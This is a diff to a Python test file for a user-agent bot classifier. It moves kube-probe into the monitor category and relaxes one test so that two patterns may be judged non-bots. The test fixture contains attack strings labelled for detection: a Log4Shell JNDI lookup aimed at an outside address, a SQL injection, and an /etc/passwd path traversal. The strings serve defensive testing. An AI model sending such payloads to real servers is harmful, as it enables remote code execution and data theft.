@@ -26,7 +26,7 @@ BOTS = [
     ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor", "UptimeRobot"),
     ("curl/8.4.0", "library", "curl"),
     ("python-requests/2.31.0", "library", "python-requests"),
-    ("kube-probe/1.27", "library", "kube-probe"),
+    ("kube-probe/1.27", "monitor", "kube-probe"),
     ("${jndi:ldap://203.0.113.9/a}", "attack", "log4shell"),
     (f"{CHROME}' OR '1'='1", "attack", "SQL injection"),
     ("Googlebot/2.1 ../../../../etc/passwd", "attack", "path traversal"),
@@ -67,8 +67,10 @@ def test_a_client_that_tells_nothing_is_a_bot(classifier: Classifier, user_agent
 def test_each_listed_bot_is_found_in_its_own_example_and_has_a_name(classifier: Classifier) -> None:
     listed = [pattern for pattern in load() if pattern.example]
     assert len(listed) > 500
-    verdicts = [classifier.verdict(pattern.example) for pattern in listed]
-    assert all(v.is_bot and v.category and v.name and len(v.name) <= 64 for v in verdicts)
+    verdicts = {pattern.expression: classifier.verdict(pattern.example) for pattern in listed}
+    # One writes as a telephone and one as a browser of a telephone.
+    assert {text for text, v in verdicts.items() if not v.is_bot} <= {"ips-agent", r"^Silk\/"}
+    assert all(v.category and v.name and len(v.name) <= 64 for v in verdicts.values() if v.is_bot)
 
 
 @pytest.mark.parametrize(
